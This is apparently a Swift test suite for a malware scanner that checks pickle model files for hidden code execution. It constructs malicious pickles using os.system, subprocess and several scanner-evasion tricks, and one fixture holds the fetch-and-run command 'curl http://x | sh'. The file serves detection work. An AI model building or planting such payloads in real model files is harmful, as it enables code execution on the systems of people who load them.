import BulwarkCore
import BulwarkFormats
@testable import BulwarkModels
import Testing

@Suite("pickle bypass techniques")
struct PickleTechniqueTests {
    @Test func reduceOfOsSystemIsCriticalAndRendered() {
        let f = scanModel(PickleBuilder.call("os", "system", ["curl http://x | sh"]))
        let call = f.first { $0.ruleID == "pickle-dangerous-call" }
        #expect(call?.severity == .critical)
        #expect(call?.message.contains("os.system('curl http://x | sh')") == true)
        #expect(call?.location.opcodeIndex != nil)
        #expect(call?.location.byteOffset != nil)
    }

    @Test func posixAliasNamesTheThreat() {
        let f = scanModel(PickleBuilder.call("posix", "system", ["true"]))
        let call = f.first { $0.ruleID == "pickle-dangerous-call" }
        #expect(call?.message.contains("runs commands") == true)
    }

    @Test func brokenStreamAfterPayloadNullifAI() {
        var p = PickleBuilder(protocol: 2)
        p.global("os", "system")
        p.stringTuple(["true"])
        p.op(.reduce)
        p.raw([0xFF, 0xFE])  // unknown opcode right after the payload, no STOP
        let f = scanModel(p.bytes)
        #expect(ids(f).contains("pickle-dangerous-call"))
        let broken = f.first { $0.ruleID == "pickle-malformed-stream" }
        #expect(broken != nil)
        #expect(broken?.message.contains("nullifAI") == true)
    }

    @Test func stackGlobalFromMemo() {
        var p = PickleBuilder(protocol: 4)
        p.string("os"); p.op(.memoize)
        p.string("system"); p.op(.memoize)
        p.op(.pop); p.op(.pop)
        p.string("collections"); p.string("OrderedDict")  // decoys a previous-opcode scanner would read
        p.op(.pop); p.op(.pop)
        p.binGet(0); p.binGet(1)
        p.op(.stackGlobal)
        p.stringTuple(["id"])
        p.op(.reduce)
        let f = scanModel(p.finished())
        let call = f.first { $0.ruleID == "pickle-dangerous-call" }
        #expect(call?.message.contains("os.system('id')") == true)
    }

    @Test func stackGlobalComputedByCall() {
        let f = scanModel(PickleComputedGlobalRule.rot13StackGlobal)
        #expect(ids(f).contains("pickle-computed-global"))
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("_codecs.encode") })
    }

    @Test func extOpcodesViaCopyreg() {
        var p = PickleBuilder(protocol: 2)
        p.global("copyreg", "add_extension")
        p.stringTuple(["os", "system"])
        p.op(.tuple1)  // placeholder shape, fixed below
        p = PickleBuilder(protocol: 2)
        p.global("copyreg", "add_extension")
        p.string("os"); p.string("system"); p.int(1); p.op(.tuple3)
        p.op(.reduce)
        p.op(.pop)
        p.raw([PickleOpcode.ext1.rawValue, 1])
        p.stringTuple(["true"])
        p.op(.reduce)
        let f = scanModel(p.finished())
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("copyreg.add_extension") })
        #expect(f.contains { $0.ruleID == "pickle-computed-global" && $0.message.contains("EXT1") })
    }

    @Test func instOpcodePath() {
        var p = PickleBuilder(protocol: 0)
        p.op(.mark)
        p.unicodeLine("true")
        p.raw([PickleOpcode.inst.rawValue] + Array("os\nsystem\n".utf8))
        let f = scanModel(p.finished())
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("os.system('true')") })
    }

    @Test func objOpcodePath() {
        var p = PickleBuilder(protocol: 1)
        p.op(.mark)
        p.global("subprocess", "Popen")
        p.string("true")
        p.op(.obj)
        let f = scanModel(p.finished())
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("subprocess.Popen") })
    }

    @Test func newObjExPath() {
        var p = PickleBuilder(protocol: 4)
        p.stackGlobal("subprocess", "Popen")
        p.stringTuple(["true"])
        p.op(.emptyDict)
        p.op(.newObjEx)
        let f = scanModel(p.finished())
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.severity == .critical })
    }

    @Test func buildPlantedSetstate() {
        var p = PickleBuilder(protocol: 2)
        p.global("collections", "OrderedDict")
        p.op(.emptyTuple)
        p.op(.reduce)
        p.op(.none)
        p.op(.emptyDict)
        p.string("__setstate__")
        p.global("os", "system")
        p.op(.setItem)
        p.op(.tuple2)
        p.op(.build)
        p.string("echo pwned")
        p.op(.build)
        let f = scanModel(p.finished())
        #expect(f.contains { $0.ruleID == "pickle-computed-global" && $0.message.contains("__setstate__") })
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("os.system('echo pwned')") })
    }

    @Test func buildMonkeyPatchesAModule() {
        var p = PickleBuilder(protocol: 2)
        p.global("os", "path")
        p.op(.none)
        p.op(.emptyDict)
        p.string("join")
        p.global("os", "system")
        p.op(.setItem)
        p.op(.tuple2)
        p.op(.build)
        let f = scanModel(p.finished())
        #expect(f.contains { $0.ruleID == "pickle-computed-global" && $0.message.contains("monkey") })
    }

    @Test func nestedPickleLoads() {
        let inner = PickleBuilder.call("os", "system", ["true"])
        var p = PickleBuilder(protocol: 3)
        p.global("pickle", "loads")
        p.binBytes(inner)
        p.op(.tuple1)
        p.op(.reduce)
        let f = scanModel(p.finished())
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("nested loader") })
    }

    @Test func dottedNameReachesOs() {
        let f = scanModel(PickleBuilder.call("tempfile", "_os.system", ["true"], protocol: 4, stackGlobal: true))
        let call = f.first { $0.ruleID == "pickle-dangerous-call" }
        #expect(call?.message.contains("reaches `os.system`") == true)
    }

    @Test func rebuildFromTypeInvokesItsArgument() {
        var p = PickleBuilder(protocol: 2)
        p.global("torch._tensor", "_rebuild_from_type_v2")
        p.global("os", "system")
        p.global("torch", "Tensor")
        p.stringTuple(["true"])
        p.op(.emptyDict)
        p.op(.mark); p.raw([]); p.op(.tuple) // placeholder: replaced below
        p = PickleBuilder(protocol: 2)
        p.global("torch._tensor", "_rebuild_from_type_v2")
        p.op(.mark)
        p.global("os", "system")
        p.global("torch", "Tensor")
        p.stringTuple(["true"])
        p.op(.emptyDict)
        p.op(.tuple)
        p.op(.reduce)
        let f = scanModel(p.finished())
        #expect(f.contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("os.system") })
    }

    @Test func trailingDataAfterStop() {
        let f = scanModel(PickleExamples.stateDict + [0x63] + Array("os\nsystem\n".utf8))
        #expect(f.contains { $0.ruleID == "pickle-malformed-stream" })
        #expect(f.contains { $0.ruleID == "pickle-dangerous-global" || $0.ruleID == "pickle-dangerous-call" })
    }

    @Test func secondProtoIsMalformed() {
        var p = PickleBuilder(protocol: 2)
        p.op(.none)
        p.raw([PickleOpcode.proto.rawValue, 2])
        let f = scanModel(p.finished())
        #expect(f.contains { $0.ruleID == "pickle-malformed-stream" && $0.message.contains("PROTO") })
    }

    @Test func truncatedStream() {
        let full = PickleExamples.stateDict
        let f = scanModel(Array(full.prefix(full.count - 10)))
        #expect(f.contains { $0.ruleID == "pickle-malformed-stream" })
    }

    @Test func userAllowlistSilencesOwnClass() {
        var config = Configuration()
        config.allowlists["pickle-globals"] = ["mymodels.*"]
        let f = scanModel(PickleUnknownGlobalRule.customClass, config: config)
        #expect(serious(f).isEmpty)
        #expect(!scanModel(PickleUnknownGlobalRule.customClass).isEmpty)
    }
}

@Suite("benign pickle layouts")
struct BenignPickleTests {
    @Test func torchStateDictIsClean() {
        #expect(serious(scanModel(PickleExamples.stateDict)).isEmpty)
        #expect(serious(scanModel(PickleBuilder.torchStateDict(protocol: 4))).isEmpty)
    }

    @Test func legacyTorchSequenceIsClean() {
        var magic = PickleBuilder(protocol: 2)
        magic.long1([0x6C, 0xFC, 0x9C, 0x46, 0xF9, 0x20, 0x6A, 0xA8, 0x50, 0x19])
        var proto = PickleBuilder(protocol: 2)
        proto.int(1001)
        var sys = PickleBuilder(protocol: 2)
        sys.op(.emptyDict)
        sys.string("protocol_version"); sys.int(1001); sys.op(.setItem)
        sys.string("little_endian"); sys.op(.newTrue); sys.op(.setItem)
        var keys = PickleBuilder(protocol: 2)
        keys.op(.mark); keys.string("0"); keys.string("1"); keys.op(.list)
        let storage: [UInt8] = [4, 0, 0, 0, 0, 0, 0, 0] + [UInt8](repeating: 0x41, count: 16)
        let bytes = magic.finished() + proto.finished() + sys.finished() + PickleExamples.stateDict + keys.finished() + storage
        let a = PickleMachine.analyze(bytes)
        #expect(a.layout == .legacyTorch)
        #expect(serious(scanModel(bytes)).isEmpty)
    }

    @Test func numpyArrayPickleIsClean() {
        var p = PickleBuilder(protocol: 2)
        p.global("numpy.core.multiarray", "_reconstruct")
        p.global("numpy", "ndarray")
        p.int(0); p.op(.tuple1)
        p.global("_codecs", "encode")
        p.string("b"); p.string("latin1"); p.op(.tuple2)
        p.op(.reduce)
        p.op(.tuple3)
        p.op(.reduce)
        p.op(.mark)
        p.int(1)
        p.int(3); p.op(.tuple1)
        p.global("numpy", "dtype")
        p.string("f8"); p.op(.newFalse); p.op(.newTrue); p.op(.tuple3)
        p.op(.reduce)
        p.op(.mark); p.int(3); p.string("<"); p.op(.none); p.op(.none); p.op(.none); p.int(-1); p.int(-1); p.int(0); p.op(.tuple)
        p.op(.build)
        p.op(.newFalse)
        p.global("_codecs", "encode")
        p.string("\u{0}\u{0}\u{0}"); p.string("latin1"); p.op(.tuple2)
        p.op(.reduce)
        p.op(.tuple)
        p.op(.build)
        #expect(serious(scanModel(p.finished())).isEmpty)
    }

    @Test func datetimeAndSetsAreClean() {
        var p = PickleBuilder(protocol: 4)
        p.op(.emptyDict)
        p.string("when")
        p.stackGlobal("datetime", "datetime")
        p.binBytes([7, 232, 1, 1, 0, 0, 0, 0, 0, 0]); p.op(.tuple1)
        p.op(.reduce)
        p.op(.setItem)
        p.string("tags")
        p.op(.emptySet); p.op(.mark); p.string("a"); p.string("b"); p.op(.addItems)
        p.op(.setItem)
        p.string("frozen")
        p.op(.mark); p.int(1); p.op(.frozenSet)
        p.op(.setItem)
        p.string("args")
        p.stackGlobal("argparse", "Namespace")
        p.op(.emptyTuple); p.op(.newObj)
        p.op(.emptyDict); p.string("lr"); p.raw([PickleOpcode.binFloat.rawValue, 0x3F, 0x50, 0x62, 0x4D, 0xD2, 0xF1, 0xA9, 0xFC]); p.op(.setItem)
        p.op(.build)
        p.op(.setItem)
        #expect(serious(scanModel(p.finished())).isEmpty)
    }

    @Test func sklearnViaJoblibWithInlineArray() {
        // joblib: estimator object whose coef_ is a NumpyArrayWrapper followed by the raw array bytes.
        var p = PickleBuilder(protocol: 4)
        p.stackGlobal("sklearn.linear_model._logistic", "LogisticRegression")
        p.op(.emptyTuple); p.op(.newObj)
        p.op(.emptyDict)
        p.string("coef_")
        p.stackGlobal("joblib.numpy_pickle", "NumpyArrayWrapper")
        p.op(.emptyTuple); p.op(.newObj)
        p.op(.emptyDict)
        p.string("subclass"); p.stackGlobal("numpy", "ndarray"); p.op(.setItem)
        p.string("shape"); p.int(1); p.int(3); p.op(.tuple2); p.op(.setItem)
        p.string("order"); p.string("C"); p.op(.setItem)
        p.string("dtype"); p.stackGlobal("numpy", "dtype"); p.string("f8"); p.op(.newFalse); p.op(.newTrue); p.op(.tuple3); p.op(.reduce)
        p.op(.mark); p.int(3); p.string("<"); p.op(.none); p.op(.none); p.op(.none); p.int(-1); p.int(-1); p.int(0); p.op(.tuple); p.op(.build)
        p.op(.setItem)
        p.string("allow_mmap"); p.op(.newFalse); p.op(.setItem)
        p.string("numpy_array_alignment_bytes"); p.int(16); p.op(.setItem)
        p.op(.build)
        p.raw([3, 0xFF, 0xFF, 0xFF] + [UInt8](repeating: 0x2E, count: 24))  // padding + 3 float64 full of '.' bytes
        p.op(.setItem)
        p.op(.build)
        let bytes = p.finished()
        let a = PickleMachine.analyze(bytes)
        #expect(a.inlineArrays == 1)
        #expect(a.anomalies.isEmpty)
        #expect(serious(scanModel(bytes)).isEmpty)
    }
}

@Suite("policy details")
struct PolicyTests {
    @Test func torchScriptHelpersAndActivationReferencesAreClean() {
        var p = PickleBuilder(protocol: 2)
        p.op(.mark)
        p.global("__torch__.torch.nn.modules.linear", "Linear")
        p.op(.emptyTuple); p.op(.newObj)
        p.global("torch.jit._pickle", "build_intlist")
        p.op(.mark); p.int(1); p.int(2); p.op(.list); p.op(.tuple1); p.op(.reduce)
        p.global("torch.nn.functional", "relu")
        p.op(.list)
        // `__torch__` types are trusted in a TorchScript archive's data.pkl only (TorchScriptTrustTests).
        #expect(serious(scanModel(TorchScriptTrustTests.archive(data: p.finished()), path: "models/model.jit")).isEmpty)
    }

    @Test func callingAReferencableFunctionIsStillACall() {
        var p = PickleBuilder(protocol: 2)
        p.global("torch", "load")
        p.stringTuple(["/tmp/x.pt"])
        p.op(.reduce)
        #expect(scanModel(p.finished()).contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("nested loader") })
    }

    @Test func codecsEncodeWithRot13IsNotAllowed() {
        #expect(scanModel(PickleBuilder.call("_codecs", "encode", ["bf", "rot13"])).contains { $0.ruleID == "pickle-dangerous-call" })
        #expect(serious(scanModel(PickleBuilder.call("_codecs", "encode", ["abc", "latin1"]))).isEmpty)
    }
}

@Suite("trusted packages are not a free pass")
struct TrustedPrefixTests {
    @Test func classUnderTrustedPrefixCalledWithStructuredArgsIsACall() {
        var p = PickleBuilder(protocol: 2)
        p.global("torch.utils.data", "SomeLoader")
        p.string("/tmp/a"); p.string("w"); p.op(.tuple2)
        p.op(.reduce)
        #expect(scanModel(p.finished()).contains { $0.ruleID == "pickle-dangerous-call" })
    }

    @Test func enumStyleCallIsClean() {
        var p = PickleBuilder(protocol: 2)
        p.global("transformers.trainer_utils", "IntervalStrategy")
        p.string("steps"); p.op(.tuple1)
        p.op(.reduce)
        #expect(serious(scanModel(p.finished())).isEmpty)
    }

    @Test func deniedSubpackagesOfTrustedLibraries() {
        var p = PickleBuilder(protocol: 2)
        p.global("torch.package", "PackageImporter")
        p.string("/tmp/x.pt"); p.op(.tuple1)
        p.op(.reduce)
        #expect(scanModel(p.finished()).contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("packaged Python code") })
        let fx = scanModel(PickleBuilder.call("torch.fx.graph_module", "reduce_graph_module", ["import os"]))
        #expect(fx.contains { $0.ruleID == "pickle-dangerous-call" && $0.message.contains("generated Python source") })
    }
}
